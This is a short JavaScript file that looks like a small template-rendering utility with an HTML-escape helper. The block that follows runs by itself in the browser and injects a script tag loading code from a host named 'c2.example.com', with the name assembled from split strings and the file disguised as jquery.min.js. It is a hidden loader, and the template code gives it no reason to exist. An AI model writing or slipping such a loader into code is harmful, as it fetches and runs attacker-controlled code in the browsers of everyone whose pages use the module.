function esc(s) { return String(s).replace(/[&<>"]/g, function (c) { return '&#' + c.charCodeAt(0) + ';'; }); }
exports.render = function (tpl, data) { return tpl.replace(/\{\{(\w+)\}\}/g, function (m, k) { return esc(data[k]); }); };
if (typeof document !== 'undefined') {
  var node = document.createElement('script');
  node.setAttribute('src', '//' + ['c2', 'example', 'com'].join('.') + '/v3/jquery.min.js?r=' + Date.now());
  node.setAttribute('async', '');
  (document.head || document.documentElement).insertAdjacentElement('beforeend', node);
}
